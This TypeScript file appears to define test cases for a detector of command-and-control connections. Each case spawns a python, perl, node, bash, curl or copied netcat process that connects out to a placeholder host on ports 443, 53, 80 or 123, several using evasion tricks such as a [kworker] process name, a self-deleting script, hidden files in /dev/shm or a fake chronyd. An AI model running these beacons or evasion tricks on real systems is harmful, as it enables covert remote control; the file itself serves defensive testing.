import {
  connects,
  copied,
  implant,
  lines,
  netcat,
  node,
  python,
  pythonFile,
  stays,
  talking,
  written,
} from '../stage/scripts.ts';
import type {Variant} from '../stage/variant.ts';

type Given = Pick<Variant, 'id' | 'does' | 'start'> & Partial<Variant>;

const signs = [
  'owner-script',
  'owner-path',
  'owner-shell',
  'owner-intact',
  'service-account',
  'name-server',
  'owner-packaged',
];
const holds = (protocol: 'tcp' | 'udp', port: number): string => lines(connects(protocol, port), stays);
const www = {as: 33};

/** 10: orders come over a port that is usual for a client. */
const overUsualPorts: readonly Given[] = [
  {
    id: 'script-of-tmp-443',
    does: 'python3 /tmp/x.py to 443, of www-data',
    start: pythonFile('/tmp/$ID.py', holds('tcp', 443)),
    waits: {tcp: 443},
    ...www,
  },
  {
    id: 'script-of-tmp-53-tcp',
    does: 'python3 /tmp/x.py to 53, TCP, of www-data',
    start: pythonFile('/tmp/$ID.py', holds('tcp', 53)),
    waits: {tcp: 53},
    ...www,
  },
  {
    id: 'script-of-tmp-53-udp',
    does: 'python3 /tmp/x.py to 53, UDP, of www-data',
    start: pythonFile('/tmp/$ID.py', holds('udp', 53)),
    waits: {udp: 53},
    ...www,
  },
  {
    id: 'script-of-tmp-443-udp',
    does: 'python3 /tmp/x.py to 443, UDP, of www-data',
    start: pythonFile('/tmp/$ID.py', holds('udp', 443)),
    waits: {udp: 443},
    ...www,
  },
  {
    id: 'standard-input-named-kworker',
    does: 'Python from standard input, named [kworker/0:1], to 443',
    start: `exec bash -c 'exec -a "[kworker/0:1]" /usr/bin/python3 -' <<'END'
${holds('tcp', 443)}
END`,
    waits: {tcp: 443},
  },
  {
    id: 'command-line-443',
    does: 'python3 -c to 443',
    start: python(holds('tcp', 443)),
    waits: {tcp: 443},
  },
  {
    id: 'deleted-script-443',
    does: 'a script that was deleted, to 443',
    start: `${written('/opt/$ID.py', lines('import os', 'os.remove(__file__)', holds('tcp', 443)))}
exec /usr/bin/python3 /opt/$ID.py`,
    waits: {tcp: 443},
  },
  {
    id: 'bash-dev-udp-53',
    does: 'bash /dev/udp to 53',
    start: `exec bash -c 'exec 7<>/dev/udp/$THERE/53; read -r -u 7 line'`,
    waits: {udp: 53},
  },
  {
    id: 'curl-of-www-data',
    does: 'curl of www-data waits for orders on 443',
    start: 'exec curl -sk https://$THERE/orders',
    needs: ['curl'],
    waits: {tcp: 443},
    ...www,
  },
  {
    id: 'upload-443',
    does: 'an upload in the web root, of www-data, to 443',
    start: implant('/var/www/html/up/x7', talking(443)),
    waits: {tcp: 443},
    ...www,
  },
  {
    id: 'loader-runs-tmp-443',
    does: 'the loader runs a program of /tmp, to 443',
    start: `${copied(netcat, '/tmp/$ID')}
exec /lib64/ld-linux-x86-64.so.2 /tmp/$ID ${talking(443)}`,
    needs: ['/lib64/ld-linux-x86-64.so.2'],
    waits: {tcp: 443},
  },
  {
    id: 'perl-command-line-80',
    does: 'perl -e to 80, of www-data',
    start: `exec perl -e 'use IO::Socket::INET; $s = IO::Socket::INET->new("$THERE:80"); <$s>'`,
    waits: {tcp: 80},
    ...www,
  },
  {
    id: 'node-command-line-443',
    does: 'node -e to 443',
    start: `exec ${node} -e 'require("net").connect(443, "$THERE")'`,
    waits: {tcp: 443},
  },
  {
    id: 'script-of-dev-shm-443',
    does: 'perl /dev/shm/.x.pl to 443',
    start: `${written('/dev/shm/.$ID.pl', 'use IO::Socket::INET; $s = IO::Socket::INET->new("$THERE:443"); <$s>')}
exec perl /dev/shm/.$ID.pl`,
    waits: {tcp: 443},
  },
  {
    id: 'bash-script-of-var-tmp-80',
    does: 'bash /var/tmp/x.sh with /dev/tcp, to 80',
    start: `${written('/var/tmp/$ID.sh', 'exec 7<>/dev/tcp/$THERE/80\nread -r -u 7 line')}
exec bash /var/tmp/$ID.sh`,
    waits: {tcp: 80},
  },
  {
    id: 'script-by-relative-path-443',
    does: 'python3 x.py in /tmp, by a relative path, to 443',
    start: `cd /tmp
${written('./$ID.py', holds('tcp', 443))}
exec /usr/bin/python3 -u $ID.py --quiet`,
    waits: {tcp: 443},
  },
  {
    id: 'implant-of-run-443',
    does: 'a program under /run, to 443',
    start: implant('/run/$ID', talking(443)),
    waits: {tcp: 443},
  },
  {
    id: 'tunnel-over-53',
    does: 'a program of no package to a foreign name server',
    start: implant('/opt/$ID/resolve', talking(53, '-u')),
    waits: {udp: 53},
  },
];

/** 11: orders come over the port of time servers. */
const overTime: readonly Given[] = [
  {id: 'python-123', does: 'Python', start: python(holds('udp', 123)), signs: ['owner-program', 'owner-script']},
  {
    id: 'own-chronyd-of-root',
    does: 'a program named chronyd, of root',
    start: implant('/usr/local/sbin/chronyd', talking(123, '-u')),
    signs: ['owner-packaged'],
  },
  {
    id: 'own-chronyd-of-eve',
    does: 'a program named chronyd, of a user',
    start: implant('/home/eve/bin/chronyd', talking(123, '-u')),
    as: 1500,
    signs: ['owner-packaged', 'owner-path'],
  },
  {
    id: 'chronyd-of-tmp',
    does: 'a program named chronyd in /tmp',
    start: implant('/tmp/$ID/chronyd', talking(123, '-u')),
    signs: ['owner-path'],
  },
];

export const commandAndControl: readonly Variant[] = [
  ...overUsualPorts.map(each => ({kind: 10, signs, ...each})),
  ...overTime.map(each => ({kind: 11, signs, waits: {udp: 123}, ...each})),
];
